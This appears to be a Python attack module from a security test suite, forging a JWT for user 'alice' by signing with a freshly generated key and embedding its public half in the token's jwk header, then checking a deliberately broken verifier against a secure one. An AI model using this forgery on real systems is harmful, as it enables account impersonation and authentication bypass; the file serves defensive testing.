"""Steals: anybody's name, with Mallory's own key.

A token's header may hold the key that checks it (`jwk`). Mallory signs with hers and puts
the public half there: then the signature is right.
"""

from types import ModuleType

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from identity import jwt_broken, jwt_tokens
from identity.jwt_tokens import ALGORITHM

from attacks.finding import Finding
from attacks.tokens import ISSUER, alice, tried

AGAINST = "identity"
CASE = ""
OPEN, SECURE = jwt_broken, jwt_tokens


async def attack(verifier: ModuleType) -> Finding:
    key = ec.generate_private_key(ec.SECP256R1())
    public = jwt.get_algorithm_by_name(ALGORITHM).to_jwk(key.public_key(), as_dict=True)
    header = {"kid": ISSUER.kid, "jwk": public}
    return tried(verifier, jwt.encode(alice(), key, ALGORITHM, header), "the key came along")
